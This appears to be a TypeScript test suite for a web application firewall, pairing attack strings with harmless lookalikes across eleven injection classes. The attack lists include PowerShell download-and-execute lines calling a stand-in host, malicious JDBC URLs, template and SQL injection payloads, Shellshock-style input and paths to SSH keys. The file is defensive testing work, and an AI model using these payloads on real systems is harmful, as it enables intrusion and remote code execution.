// What a tester tries second and third, each class beside what looks like it and means no harm.
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectDeserialization } from '../../../src/guard/decide/waf/detect/deserialization/deserialization.ts';
import type { Detector } from '../../../src/guard/decide/waf/detect/finding.ts';
import { detectJndi } from '../../../src/guard/decide/waf/detect/jndi/jndi.ts';
import { detectNosql } from '../../../src/guard/decide/waf/detect/nosql/nosql.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectSsrf } from '../../../src/guard/decide/waf/detect/ssrf/ssrf.ts';
import { detectTemplate } from '../../../src/guard/decide/waf/detect/template/template.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { detectXxe } from '../../../src/guard/decide/waf/detect/xxe/xxe.ts';
import { blocks, passes } from './judged.ts';

const classes: readonly [string, Detector, readonly string[], readonly string[]][] = [
  [
    'the address of a database that has its driver run something is an attack, one with plain properties is none',
    detectDeserialization,
    [
      "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x.test/a.sql'",
      'jdbc:h2:mem:;MODE=MSSQLServer;INIT=CREATE ALIAS E AS $$void e(){}$$',
      'jdbc:mysql://x.test/a?allowUrlInLocalInfile=true',
      'jdbc:mariadb://x.test/a?autoDeserialize=yes&x=1',
      'jdbc:postgresql://h/x?sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext&sslfactoryArg=ftp://x.test/a',
      'jdbc:postgresql://h/x?loggerLevel=TRACE&loggerFile=/srv/www/a.jsp',
      'jdbc:db2://h:50000/x:clientRerouteServerListJNDIName=rmi://x.test/a;',
      'jdbc:derby:x;startSlave=true;slaveHost=x.test',
    ],
    [
      "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
      'jdbc:h2:mem:test;INIT=CREATE SCHEMA IF NOT EXISTS SHOP',
      'jdbc:mysql://db.example:3306/shop?useSSL=false&serverTimezone=UTC&allowPublicKeyRetrieval=true',
      'jdbc:postgresql://db/shop?sslmode=require&currentSchema=app&loggerFile=pgjdbc.log',
      'jdbc:postgresql:///shop?socketFactory=com.google.cloud.sql.postgres.SocketFactory',
      'jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true',
      'jdbc:oracle:thin:@//db.example:1521/XEPDB1',
    ],
  ],
  [
    'what leads out of a program without a known call is code, what programs name by right is none',
    detectCode,
    [
      'x.mainModule.require',
      "global['pro'+'cess'].mainModule.constructor._load('fs')",
      '(lambda:(yield)).gi_frame.f_back.f_globals',
      '{user.__init__.__globals__[app]}',
      'typeof(System.IO.File).GetMethod("ReadAllText")',
      'Type.GetTypeFromProgID("Shell.Application")',
      '"".GetType().Assembly',
      'Code.eval_quoted("x")',
      '#=(eval (spit "a" 1))',
      '@{[ `id` ]}',
      'IO.popen(%w(cat a)).read',
      "new ReflectionFunction('passthru')",
      "(chr(112).'assthru')('id')",
      "'.print(`id`).'",
      '?s=index/\\think\\Request/input',
      "= system 'id'",
      '=CALL("kernel32","WinExec","JCJ","calc",0)',
      '+DDE("cmd";"/c calc";"a")',
    ],
    [
      'require.main === module',
      'The main module is process.argv[1].',
      'logger.info(sys._getframe().f_back.f_code.co_name)',
      'Hello {user.name}, your {order.__class__}',
      'typeof(Customer).GetMethod("Save")',
      'var excel = Type.GetTypeFromProgID("Excel.Application");',
      'value.GetType().Assembly.GetName()',
      'new ReflectionFunction($callback)',
      "('a'.'b') ('c')",
      '= system status',
      '- system "A" was down',
      '=CALL(A1,B2)',
      '=SUM(A1:A3)',
      'I think\\I know',
    ],
  ],
  [
    'expressions by other doors are templates, what developers write in theirs is none',
    detectTemplate,
    [
      "''.getClass()",
      '"".getClass().getProtectionDomain()',
      'x.class.forName("java.lang.Runtime")',
      'new("java.net.URL", "http://x.test")',
      "#{@systemProperties['user.home']}",
      "@environment.getProperty('a.b')",
      'redirect:${#context.x}',
      'action:%{(1).x()}',
      "{{ salt['cmd.shell']('id') }}",
      '{{ .Host.Shell.Exec "id" }}',
      '[% RAWPERL %]x[% END %]',
      "{function name='a(){};system(1);function b'}{/function}",
    ],
    [
      'System.out.println(name.getClass().getSimpleName())',
      'Foo.class.getName()',
      'redirect:/orders/${id}',
      'redirect:https://shop.example/',
      "{{ salt['pillar.get']('users') }}",
      '{{ .Values.image.repository }}',
      '{{ .Page.Title }}',
      '[% INCLUDE header.tt %]',
      "{function name='menu' level=0}",
      'The bean @environment has properties.',
      `@Value("#{systemProperties['user.name']}")`,
      "#{systemProperties['user.home']} in Spring config",
    ],
  ],
  [
    'look-ups that read a file or an address are known, settings of the environment are none',
    detectJndi,
    [
      '${xpath:/etc/hosts:/}',
      '${xml:http://x.test/a.xml:/a}',
      '${properties:/etc/app.properties::key}',
      '${ENV:AWS_SECRET_ACCESS_KEY}${java:os}',
    ],
    ['${env:HOME}${env:PATH}', '${xpath:title}', '${properties:name}', '${xml:lang}'],
  ],
  [
    'clauses and statements of single dialects are SQL, the same words in sentences are none',
    detectSql,
    [
      "1 limit 1 into outfile '/srv/a.php' fields terminated by 'x' lines starting by '<?'",
      "x',1) on duplicate key update role='admin'-- -",
      '1) on conflict (id) do update set role=1--',
      '1 offset 1 rows fetch next (select 1 from users) rows only',
      "1;runscript from 'http://x.test/a'",
      ";vacuum into '/srv/a.db'",
      "1 and 1=(select 1 from openrowset('a','b';'c';'d','select 1'))",
      '1;alter role app superuser',
      `1;insert into users json '{"a":1}'`,
      "1'||not'0",
      "a'=0=1#",
      "1 or @`'`=1 union select 1,2,3",
    ],
    [
      'On duplicate keys we update the row.',
      'ON CONFLICT (sku) DO UPDATE SET qty = stock.qty + EXCLUDED.qty',
      'ON DUPLICATE KEY UPDATE n = n + 1',
      'on conflict (of interest) do update your form',
      'fetch next (of kin) rows only',
      'runscript from home',
      'Vacuum into the corners, please',
      "f('a';'b')",
      "it's 0=1 or nothing",
      'mail me @`noon`',
      'alter role models',
      '5 < 6 == true',
    ],
  ],
  [
    'commands in brackets, transports and exported functions are a shell’s, calls of addresses are none',
    detectShell,
    [
      '&powershell -c iex(iwr http://x.test/a)',
      '|pwsh -nop -w hidden -c (new-object net.webclient).downloadstring("http://x.test")',
      ';&(gcm *oami)',
      ';sal z iex;z calc',
      'ext::sh -c id',
      "env a='() { :;}; id' bash -c :",
      ';/lib64/ld-linux-x86-64.so.2 /bin/id',
    ],
    [
      'scanf("%d", &(list->size))',
      'x = a &(b | c)',
      'PowerShell -Version (or later) is needed',
      'ext::php is an extension',
      'next::sh -c',
      "let f='() { return 1; }'",
      '/lib64/libc.so.6',
      'Sal went home; Sal slept',
    ],
  ],
  [
    'attributes that htmx, hyperscript and Vue run, and links of BBCode, are XSS; without code they are none',
    detectXss,
    [
      '<i hx-trigger="load[alert(1)]">',
      "<i data-hx-headers='js:{a:alert(1)}'>",
      '<i _="on click call alert(1)">',
      '<i :is="\'script\'" src=//x.test>',
      '[url=javascript:alert(1)]x[/url]',
      '[img]javascript:alert(1)[/img]',
      '<form><input name=attributes></form>',
      '<form><input id="removeChild"></form>',
    ],
    [
      '<i hx-trigger="keyup[ctrlKey] changed delay:500ms">',
      '<i hx-vals=\'{"a":"b"}\'>',
      '<i _="on click toggle .open">',
      '<component :is="\'my-card\'">',
      '[url=https://x.test]x[/url]',
      '<form><input name="title"><input name="comment"></form>',
      '<form><input name="attributes[color]"></form>',
    ],
  ],
  [
    'Java that a style sheet or a context names, and files as an image, are told; plain ones are none',
    detectXxe,
    [
      '<xsl:stylesheet xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/>',
      '<beans><bean class="java.lang.ProcessBuilder"/></beans>',
      '<svg><image href="text:/etc/hosts"/></svg>',
    ],
    [
      '<xsl:stylesheet xmlns:d="http://xml.apache.org/xalan/java/java.util.Date"/>',
      '<beans><bean class="java.util.ArrayList"/></beans>',
      '<svg><image href="/logo.png"/><text>text: /etc</text></svg>',
    ],
  ],
  [
    'Gremlin, ReQL, Cypher and Solr behind what they leave are told, chains of programs are none',
    detectNosql,
    [
      "').drop().iterate()",
      "';g.V().valueMap('x')",
      "''); r.db('a').table('b').delete()",
      "r.js('1')",
      "' LOAD CSV FROM 'http://x.test/a' AS l RETURN l //",
      'x&shards=x.test:8983/solr',
      'a&stream.file=/etc/hosts',
    ],
    ["list.map('x').values()", "r.json('a')", 'We load CSV from the folder.', 'q=shoes&shards=3', "g.V('1')"],
  ],
  [
    'an address behind url: and a carriage return in a climb are told, names alike are none',
    detectSsrf,
    ['url:http://127.0.0.1:8080/', 'url:https://10.0.0.7/'],
    ['url:https://shop.example/', 'url: http://shop.example/a', 'URL:http://shop.example'],
  ],
  [
    'files of keys and users, and a carriage return in a climb, are paths; files of projects are none',
    detectPath,
    [
      '..\r/..\r/..\r/etc/hosts',
      '../appsettings.Production.json',
      '/opt/jboss/standalone/configuration/mgmt-users.properties',
      'C:\\ProgramData\\ssh\\ssh_host_rsa_key',
    ],
    ['and so on..\rA line', './application.properties', 'settings/users.properties', 'see ssh_config'],
  ],
];

for (const [name, detect, attacks, benign] of classes)
  test(name, () => {
    blocks(detect, attacks);
    passes(detect, benign);
  });
